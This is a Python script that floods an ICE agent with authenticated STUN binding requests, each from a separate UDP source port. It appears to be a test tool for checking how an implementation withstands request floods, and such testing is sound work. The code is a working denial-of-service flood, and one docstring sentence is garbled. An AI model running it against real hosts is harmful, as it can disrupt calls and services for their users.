"""A flood of ICE requests with a session's own password, each from a port of its own, as a process of its own.

`python stun_flood.py HOST PORT OURS:THEIRS PASSWORD COUNT` prints how many it sent. Nothing but the standard library:
what it imports would be time of the machine that is under attack.
"""

import contextlib
import hmac
import os
import socket
import struct
import sys
import time
import zlib

COOKIE = 0x2112A442
SOURCE, FIRST = "127.0.1.1", 20_000
BATCH, PAUSE_S = 20, 0.002


def attribute(kind: int, value: bytes) -> bytes:
    return struct.pack("!HH", kind, len(value)) + value + bytes(-len(value) % 4)


def message(body: bytes, room: int, transaction: bytes) -> bytes:
    """A binding request with `room` more bytes to come (RFC 8489 §5)."""
    return struct.pack("!HHI", 1, len(body) + room, COOKIE) + transaction + body


def request(username: str, password: str, *attributes: bytes) -> bytes:
    """A binding request as an ICE agent sends it: user name, priority, role, integrity, fingerprint."""
    transaction = os.urandom(12)
    body = attribute(0x0006, username.encode()) + attribute(0x0024, struct.pack("!I", 1845494271))
    body += attribute(0x802A, bytes(8)) + b"".join(attributes)
    body += attribute(0x0008, hmac.digest(password.encode(), message(body, 24, transaction), "sha1"))
    return message(body + attribute(0x8028, struct.pack("!I", crc(message(body, 8, transaction)))), 0, transaction)


def crc(data: bytes) -> int:
    return zlib.crc32(data) ^ 0x5354554E


def main(host: str, port: str, username: str, password: str, count: str) -> None:
    sent = 0
    for number in range(int(count)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as source, contextlib.suppress(OSError):
            source.bind((SOURCE if host.startswith("127.") else "", FIRST + number))
            sent += source.sendto(request(username, password), (host, int(port))) > 0
        if number % BATCH == 0:
            time.sleep(PAUSE_S)
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
